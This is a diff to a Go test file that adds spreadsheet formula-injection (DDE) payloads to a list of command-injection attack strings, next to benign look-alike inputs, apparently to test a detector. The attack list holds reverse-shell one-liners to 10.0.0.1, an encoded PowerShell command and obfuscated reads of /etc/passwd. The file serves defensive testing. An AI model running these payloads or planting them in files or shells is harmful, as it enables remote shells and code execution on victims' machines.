@@ -40,6 +40,12 @@ var commandAttacks = []placedCase{
 	{"nc -e /bin/sh 10.0.0.1 4444", nil},
 	{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", nil},
 	{"; powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", nil},
+	// formula injection calling DDE (OWASP's CSV injection page)
+	{"=cmd|' /C calc'!A0", nil},
+	{"@SUM(1+1)*cmd|' /C calc'!A0", nil},
+	{"-2+3+cmd|' /C notepad'!'A1'", nil},
+	{"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", nil},
+	{"=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", nil},
 	// bash's ANSI-C quoting: the shell decodes the escapes
 	{"a;$'\\x63\\x61\\x74' /etc/passwd", nil},
 	{";$'\\167\\150\\157\\141\\155\\151'", nil},
@@ -84,6 +90,10 @@ var commandAttacks = []placedCase{
 }
 
 var commandBenign = []placedCase{
+	{"- pipe it: a|'b' then done!", nil},
+	{"=SUM(A1:A3)", nil},
+	{"+1 (555) 010-9999", nil},
+	{"@dde(user) mentioned you", nil},
 	{"it costs $'5' more, they said", nil},
 	{"regex: match $'\\x41' as a literal A", nil},
 	{"JVM tuning; gc logs show long pauses", nil},
